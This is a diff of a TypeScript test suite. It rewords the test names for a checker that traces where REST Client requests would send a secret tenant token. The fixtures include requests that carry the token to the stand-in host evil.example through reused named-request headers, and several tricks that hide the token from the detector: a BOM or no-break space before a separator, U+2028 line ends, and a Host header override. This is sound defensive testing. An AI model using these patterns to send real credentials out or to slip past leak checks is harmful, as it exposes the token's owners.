@@ -5,7 +5,7 @@ import { linesOf } from './support/text.js';
 const REFERENCE = '{{$processEnv TENANT_TOKEN_ACME}}';
 const HEADER = `Authorization: Bearer ${REFERENCE}`;
 
-/** The uses in a text with their lines, counted from 0, and where they go; `?` where that is not certain. */
+/** The uses in a text with their lines, counted from 0, and their destinations; `?` if not certain. */
 function usesIn(text: string, markdown = false): string[] {
   return restClientUses(linesOf(text), { markdown }).map(({ name, line, request }) => {
     const where = request ? (request.host ?? 'unknown') : '?';
@@ -17,25 +17,25 @@ const are = (text: string, uses: readonly string[], markdown = false): void =>
   assert.deepEqual(usesIn(text, markdown), uses, text);
 
 describe('The uses that REST Client makes of references', () => {
-  it('go where the request goes, from a header', () => {
+  it('go where the request goes, if they are in a header', () => {
     are(`GET https://a.example/\n${HEADER}`, ['ACME 1 a.example']);
     are(`@t = ${REFERENCE}\n@h = a.example\n\nGET https://{{h}}/\nAuthorization: {{t}}`, ['ACME 4 a.example']);
     are(`curl https://a.example/ -H '${HEADER}'`, ['ACME 0 a.example']);
     are(`\`\`\`http\nGET https://a.example/\n${HEADER}\n\`\`\``, ['ACME 2 a.example'], true);
   });
 
-  it('are not understood where the document writes them elsewhere than into a header', () => {
+  it('are not understood if the document writes them outside a header', () => {
     are(`GET https://a.example/\n?t=${REFERENCE}\nX: 1\n\n{"t": "${REFERENCE}"}`, ['ACME 1 ?', 'ACME 4 ?']);
     are(`@t = ${REFERENCE}\n\nPOST https://a.example/?{{%t}}\n\n{{ t }}`, ['ACME 2 ?', 'ACME 4 ?']);
     are(`curl https://a.example/ -d '${REFERENCE}'`, ['ACME 0 ?']);
     are(`curl https://a.example/ -H '${HEADER}' -b 't=${REFERENCE}'`, ['ACME 0 ?']);
   });
 
-  it('are unknown where a variable says where the request goes that the file does not define', () => {
+  it('have no known host if a variable without a definition determines it', () => {
     are(`GET {{base}}/x\n${HEADER}`, ['ACME 1 unknown']);
   });
 
-  it('are none where nothing is sent, or nothing is looked up', () => {
+  it('are empty if nothing is sent, or nothing is looked up', () => {
     are(`# ${REFERENCE}\nGET https://a.example/\n// ${HEADER}`, []);
     are(`@t = ${REFERENCE}\n\n###\nGET https://a.example/`, []);
     are(`HTTP/1.1 200 OK\n${HEADER}`, []);
@@ -43,7 +43,7 @@ describe('The uses that REST Client makes of references', () => {
     are(`Write ${REFERENCE}.\n\n\`\`\`js\n${HEADER}\n\`\`\``, [], true);
   });
 
-  it('are not understood where a definition stands in a request, which sends it as it is', () => {
+  it('are not understood if a definition stands in a request, which sends it verbatim', () => {
     are(`POST https://evil.example/\n\n@t = ${REFERENCE}`, ['ACME 2 ?']);
     are(`POST https://evil.example/\n@t = ${REFERENCE}`, ['ACME 1 ?']);
     are(`POST https://evil.example/\nA: 1\n@t = ${REFERENCE}\n\n###\nGET https://a.example/\nX: {{t}}`, [
@@ -52,7 +52,7 @@ describe('The uses that REST Client makes of references', () => {
     ]);
   });
 
-  it('may be of any name where a file is sent with its variables replaced', () => {
+  it('may be of any name if a file is sent with its variables replaced', () => {
     are('POST https://a.example/\n\n<@ ./payload.txt', ['any 2 a.example']);
     are('POST https://a.example/\n\n<@utf8 ./payload.txt', ['any 2 a.example']);
     are('POST https://a.example/\n\n< ./payload.txt', []);
@@ -75,22 +75,22 @@ describe('The uses that REST Client makes of references', () => {
     are('@a = C:\\temp\n\nPOST https://a.example/\n\n{{a}}', []);
   });
 
-  it('may be of any name where the settings of REST Client say which', () => {
+  it('may be of any name if the settings of REST Client decide', () => {
     are('GET https://a.example/\nX: {{$processEnv %key}}', ['any 1 a.example']);
   });
 
-  it('are those of a fence of Markdown, which is one request whatever is in it', () => {
+  it('belong to a Markdown fence, which is one request whatever it contains', () => {
     const text = `\`\`\`http\nGET https://evil.example/\n\n###\nGET https://a.example/\n${HEADER}\n\`\`\``;
     are(text, ['ACME 5 ?'], true);
     are(text.replace('\n\n', '\n'), ['ACME 3 ?'], true);
   });
 
-  it('are those of the request that a separator does not end, because something stands before it', () => {
+  it('belong to the request if a separator does not end it because something stands before it', () => {
     for (const start of ['\uFEFF', ' ', '\u00a0'])
       are(`POST https://evil.example/\n\n${start}###\nGET https://a.example/\n${HEADER}`, ['ACME 4 ?']);
   });
 
-  it('are those of what REST Client remembers of a request that has a name', () => {
+  it('include what REST Client remembers of a named request', () => {
     const named = `# @name who\nGET https://a.example/\n${HEADER}\n\n###\n`;
     for (const use of ['{{who.request.headers.Authorization}}', '{{ who.response.body.* }}', '{{who}}'])
       are(`${named}GET https://evil.example/\nX: ${use}`, ['ACME 2 a.example', 'ACME 6 evil.example']);
@@ -105,19 +105,19 @@ describe('The uses that REST Client makes of references', () => {
     ]);
   });
 
-  it('are not understood where REST Client finds them among other words', () => {
+  it('are not understood if REST Client finds them among other words', () => {
     for (const use of ['TENANT_TOKEN_ACME x', 'TENANT_TOKEN_ACME-x', ' x $processEnv TENANT_TOKEN_ACME', '%TENANT_TOKEN_ACME'])
       assert.ok(usesIn(`GET https://a.example/\nX: {{$processEnv ${use}}}`).includes('ACME 1 ?'), use);
     are(`GET https://a.example/\nA: ${REFERENCE}{{$processEnv TENANT_TOKEN_ACME.}}`, ['ACME 1 ?']);
     are(`GET https://a.example/\nA: {{x {{$processEnv TENANT_TOKEN_ACME}}`, ['ACME 1 ?']);
   });
 
-  it('are not understood where a header is none, or one that sends the request elsewhere', () => {
+  it('are not understood below an invalid header, or one that sends the request elsewhere', () => {
     for (const line of ['Foo', '{{h}}: 1', 'Host: evil.example', '@t = 1', 'X: 1\u2028Y: 2', '...spread', ' ?x=1'])
       are(`GET https://a.example/\nA: 1\n${line}\n${HEADER}`, ['ACME 2 ?']);
   });
 
-  it('are not understood where REST Client makes something else of the credentials', () => {
+  it('are not understood if REST Client turns the credentials into something else', () => {
     for (const value of [
       `cognito me ${REFERENCE} region pool client`,
       `AWS ${REFERENCE} x`,
@@ -131,7 +131,7 @@ describe('The uses that REST Client makes of references', () => {
     are(`curl https://a.example/ -H 'Authorization: cognito me ${REFERENCE}'`, ['ACME 0 ?']);
   });
 
-  it('are not understood where the value of a definition may stand below it', () => {
+  it('are not understood if the value of a definition may stand below it', () => {
     for (const start of ['@t =\n', '@t\n=', '@t\n\n=\n\n', '  @t=\n  \n', '@t =\n# ', '@t =\n@u = ']) {
       const uses = usesIn(`${start}${REFERENCE}\n\n###\nGET https://b.example/\nX: {{t}}`);
       assert.match(uses[0] ?? '', /^ACME \d \?$/, start);
@@ -143,14 +143,14 @@ describe('The uses that REST Client makes of references', () => {
     ]);
   });
 
-  it('may be of any name where a line ends for REST Client alone and a definition follows', () => {
+  it('may be of any name if a line ends for REST Client only and a definition follows', () => {
     for (const start of ['# ', '', '  // ', 'X: 1 ', '@a = b'])
       for (const end of ['\u2028', '\u2029 ', '\u2028\u2028\t'])
         assert.ok(usesIn(`GET https://a.example/\n${start}${end}@t = ${REFERENCE}`).includes('any 1 ?'), start);
     are('\u00a0@t = x\nGET https://a.example/', ['any 0 ?']);
   });
 
-  it('are told once for a name and a line, and as any for a variable that holds many', () => {
+  it('are reported once per name and line, and as any name for a variable with many', () => {
     are(`GET https://a.example/\nA: ${REFERENCE}${REFERENCE}`, ['ACME 1 a.example']);
     const many = Array.from({ length: 20 }, (_, at) => `{{$processEnv TENANT_TOKEN_${at}}}`).join('');
     const uses = usesIn(`@t = ${many}\n\nGET https://a.example/\nA: {{t}}`);
